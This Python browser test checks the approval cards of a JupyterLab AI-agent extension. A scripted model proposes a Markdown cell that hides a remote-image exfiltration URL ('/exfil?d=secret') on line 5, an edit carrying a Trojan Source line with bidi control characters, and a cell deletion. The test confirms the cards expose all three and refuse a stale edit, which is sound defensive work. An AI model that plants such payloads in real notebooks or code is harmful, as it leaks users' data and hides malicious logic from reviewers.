"""Browser test: the approval card shows everything that will happen (real JupyterLab, chromium).

The scripted model asks, in turn, to insert a Markdown cell whose first line reads harmlessly and
whose line 5 is a remote image (the card shows line 5 as text; nothing is fetched; denied), to
edit a cell with a Trojan Source line (the diff shows the bidi controls as `⟨U+202E⟩`, against
the cell as the notebook holds it), then — after the user changed that cell while the card
waited — the edit is approved and refused in one line, the user's text kept and the model told;
and a `delete_cell` card shows the cell's current source. On 838a3dd the cards showed the first
line only, the diff passed the controls raw and was taken from the kernel's cache, and the edit
overwrote the user's change.
"""

from __future__ import annotations

import pytest

pytest.register_assert_rewrite("tests.support.browser")

from tests.browser.test_browser_notebook_tools import _notebook_with_ids  # noqa: E402
from tests.support.browser import cell, open_notebook, transcript_text  # noqa: E402
from tests.support.session import request_messages  # noqa: E402

pytest_plugins = ["tests.support.browser", "tests.support.no_fetch"]
pytestmark = [pytest.mark.browser, pytest.mark.timeout(300)]

TROJAN = "value = 2  # \u202e } \u2066if admin\u2069 \u2066 begin"


def _card(agent, tool: str):
    return agent.locator(".widget-vbox", has_text=tool).last


def test_cards_show_line_5_the_bidi_controls_and_the_current_source_and_a_stale_edit_is_refused(
    page, lab, scripted, counting
):
    markdown = "\n".join(
        ["## Summary of results", "", "The numbers look fine.", "", f"![chart]({counting.base}/exfil?d=secret)"]
    )
    server = scripted(
        [
            {"tool_calls": [{"name": "insert_cell", "id": "call_md", "arguments": {"cell_type": "markdown", "source": markdown, "description": "Summary"}}]},
            {"tool_calls": [{"name": "edit_cell", "id": "call_edit", "arguments": {"cell_id": "value-cell", "source": TROJAN, "description": "Bump"}}]},
            {"tool_calls": [{"name": "delete_cell", "id": "call_del", "arguments": {"cell_id": "value-cell"}}]},
            {"text": "All done."},
        ]
    )
    _notebook_with_ids(
        lab,
        "cards.ipynb",
        [("load", "%load_ext penguin_jupyter"), ("agent", "%%penguin --approve ask\nTidy up"), ("value-cell", "value = 1")],
    )
    open_notebook(page, lab, "cards.ipynb")
    cell(page, 0).locator(".jp-InputArea-editor").click()
    page.keyboard.press("Shift+Enter")  # %load_ext
    page.keyboard.press("Shift+Enter")  # the %%penguin cell
    agent = cell(page, 1)

    # 1. insert_cell: line 5 (the remote image) is on the card, as text.
    card = _card(agent, "insert_cell")
    card.get_by_role("button", name="Deny").wait_for()
    card.locator("pre", has_text="exfil").wait_for()
    text = card.inner_text()
    assert "## Summary of results" in text and f"![chart]({counting.base}/exfil?d=secret)" in text, text
    page.wait_for_timeout(500)
    assert counting.total() == 0, dict(counting.hits)
    card.get_by_role("button", name="Deny").click()

    # 2. edit_cell: the diff against the notebook's source, with the controls visible.
    card = _card(agent, "edit_cell")
    approve = card.get_by_role("button", name="Approve")
    approve.wait_for()
    card.locator("text=as the notebook holds it now").wait_for()
    diff = card.inner_text()
    assert "-value = 1" in diff, diff
    assert "+value = 2  # ⟨U+202E⟩ } ⟨U+2066⟩if admin⟨U+2069⟩ ⟨U+2066⟩ begin" in diff, diff
    assert "\u202e" not in diff and "\u2066" not in diff
    # The user changes the cell while the card waits; the approved edit must not overwrite it.
    cell(page, 2).locator(".jp-InputArea-editor .cm-content").click()
    page.keyboard.press("Control+a")
    page.keyboard.type("value = 100")
    page.keyboard.press("Escape")
    approve.click()
    _card(agent, "edit_cell").locator("text=changed since the approval card showed it").first.wait_for()
    assert "value = 100" in cell(page, 2).inner_text()
    assert "begin" not in cell(page, 2).inner_text()

    # 3. delete_cell: the card shows the cell's current source (the user's edit).
    card = _card(agent, "delete_cell")
    card.get_by_role("button", name="Deny").wait_for()
    card.locator("pre", has_text="value = 100").wait_for()
    assert "as the notebook holds it now" in card.inner_text()
    card.get_by_role("button", name="Deny").click()

    # the transcript node is there before the renderer fills it: wait for its last words
    agent.locator(".penguin-transcript").get_by_text("All done.").wait_for(timeout=60_000)
    assert "value = 100" in cell(page, 2).inner_text()
    told = [content for role, content in request_messages(server.requests[2]) if role == "tool"]
    assert any("changed since the approval card showed it" in content for content in told), told
    # The static transcript's cards: line 5 and the controls made visible there too.
    transcript = transcript_text(agent.locator(".penguin-transcript"))
    assert f"![chart]({counting.base}/exfil?d=secret)" in transcript
    assert counting.total() == 0, dict(counting.hits)
